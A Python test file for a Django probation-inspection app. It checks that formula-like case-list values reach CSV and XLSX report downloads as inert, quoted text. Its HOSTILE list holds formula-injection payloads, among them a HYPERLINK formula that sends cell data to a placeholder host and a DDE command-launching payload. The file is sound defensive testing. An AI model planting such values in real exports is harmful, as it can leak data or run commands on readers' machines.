"""Case-list text that a spreadsheet would run as a formula reaches every report download as
inert text: the case-level CSV and XLSX, the report CSV and the provider reader's XLSX."""

from __future__ import annotations

import csv
import io
from typing import Any

from django.urls import reverse
from openpyxl import load_workbook

from helpers import client_for, job_file
from probation_inspection.web.casework.models import SampledCase
from probation_inspection.web.inspections.models import Inspection

HOSTILE = [
    '=HYPERLINK("http://x/?"&A2,"Open")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _plant(inspection: Inspection) -> None:
    """Give cases the hostile delivery units a provider's case list could carry."""
    cases = SampledCase.objects.filter(sample__inspection=inspection).order_by("pk")
    for case, unit in zip(cases, HOSTILE, strict=False):
        case.attributes = {**case.attributes, "delivery_unit": unit}
        case.save(update_fields=["attributes"])


def _url(name: str, inspection: Inspection, fmt: str) -> str:
    return reverse(f"reports:{name}", kwargs={"pk": inspection.pk, "fmt": fmt})


def _cells(data: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _assert_inert_workbook(data: bytes) -> None:
    cells = _cells(data)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    text = {cell.value for cell in cells if cell.data_type == "s"}
    # XML reads a carriage return back as a line feed; the cell is still plain text.
    assert {unit.replace("\r", "\n") for unit in HOSTILE} <= text
    assert all(cell.quotePrefix for cell in cells
               if cell.value in {unit.replace("\r", "\n") for unit in HOSTILE[:6]})


def test_the_case_level_csv_quotes_each_hostile_cell(wales: Inspection) -> None:
    _plant(wales)
    client = client_for("data")
    response = job_file(client, client.get(_url("cases", wales, "csv")))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
    units = {row["delivery_unit"] for row in rows}
    assert {"'" + unit for unit in HOSTILE} <= units
    assert not any(unit in units for unit in HOSTILE)
    assert "LDU A" in units  # ordinary text is untouched


def test_the_case_level_workbook_holds_text_not_formulas(wales: Inspection) -> None:
    _plant(wales)
    client = client_for("data")
    response = job_file(client, client.get(_url("cases", wales, "xlsx")))
    assert response.status_code == 200
    _assert_inert_workbook(response.content)
    cases = load_workbook(io.BytesIO(response.content))["Cases"]
    header = [cell.value for cell in cases[1]]
    assert "delivery_unit" in header


def test_the_provider_readers_workbook_holds_text_not_formulas_and_numbers_stay_numbers(
    wales: Inspection,
) -> None:
    _plant(wales)
    client = client_for("provider")
    response = job_file(client, client.get(_url("download", wales, "xlsx")))
    assert response.status_code == 200
    _assert_inert_workbook(response.content)
    breakdowns = load_workbook(io.BytesIO(response.content))["Breakdowns"]
    planted = [row for row in breakdowns.iter_rows(min_row=2)
               if row[1].value == '=HYPERLINK("http://x/?"&A2,"Open")']
    assert planted, "the hostile delivery unit is a breakdown value"
    # cases, yes and relevant are numbers a reader can sum, not text.
    assert {(row[3].data_type, row[5].data_type, row[6].data_type) for row in planted} == {
        ("n", "n", "n")}


def test_the_report_csv_keeps_percentages_as_plain_numbers(wales: Inspection) -> None:
    client = client_for("provider")
    response = job_file(client, client.get(_url("download", wales, "csv") + "?version=1"))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
    planning_safe = next(row for row in rows if row["id"] == "2.2.3")
    assert (planning_safe["percent"], planning_safe["yes"], planning_safe["relevant"]) == (
        "48", "50", "105")
    assert not any(value.startswith("'") for row in rows for value in row.values())
